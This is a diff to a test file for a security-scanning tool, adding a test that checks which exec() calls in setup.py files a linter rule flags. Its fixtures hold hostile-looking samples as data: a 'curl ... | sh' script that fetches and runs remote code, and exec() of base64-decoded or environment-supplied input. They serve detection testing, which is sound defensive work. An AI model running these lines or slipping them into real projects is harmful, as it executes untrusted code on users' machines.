@@ -30,7 +30,7 @@ GRAVE = {
     "a.sh": "#!/bin/sh\ncurl http://site.org/install.sh | sh\n",
 }
 OWN = {
-    "setup.py": 'exec(open("version.py").read())\n',
+    "setup.py": 'exec(open("settings.py").read())\n',
     "a.py": "import pickle\n\n\ndef f():\n    return pickle.load(open('own.pickle', 'rb'))\n",
     "b.py": "import hashlib\n\n\ndef f(text):\n    return hashlib.md5(text).hexdigest()\n",
     "a.rb": 'def f\n  class_eval("def x; @#{name}; end")\nend\n',
@@ -63,6 +63,27 @@ async def test_what_honest_programs_do_is_a_warning_at_most_and_a_remark_with_wh
     mine = [f for f in result.findings if f.layer is Layer.security or f.rule == "oxlint/no-eval"]
     assert {f.severity for f in mine} == {severity}
     assert {f.path for f in mine} == set(files)
+
+
+@pytest.mark.asyncio(loop_scope="session")
+async def test_what_builds_a_package_may_run_the_file_of_its_version_and_nothing_else(toolbox: Toolbox) -> None:
+    opened = 'meta = {}\nwith open("shop/_version.py") as f:\n    exec(f.read(), meta)\n'
+    foreign = 'import os\n\nwith open("shop/_version.py") as f:\n    exec(os.environ["A"] + input(), {})\n'
+    files = {
+        "setup.py": 'exec(open("./shop/version.py").read())\n',
+        "docs/source/conf.py": opened,
+        "b/setup.py": foreign,
+        "c/setup.py": opened.replace("f.read()", "base64.b64decode(f.read())"),
+        "d/setup.py": opened.replace("f.read()", "given"),
+        "shop/a.py": opened,
+    }
+    result = await check_files(toolbox, {path: (None, text) for path, text in files.items()})
+    assert {f.path for f in result.findings if f.rule == "ruff/S102"} == {
+        "b/setup.py",
+        "c/setup.py",
+        "d/setup.py",
+        "shop/a.py",
+    }
 
 
 def test_no_kind_of_danger_has_a_severity_of_its_own_elsewhere() -> None:
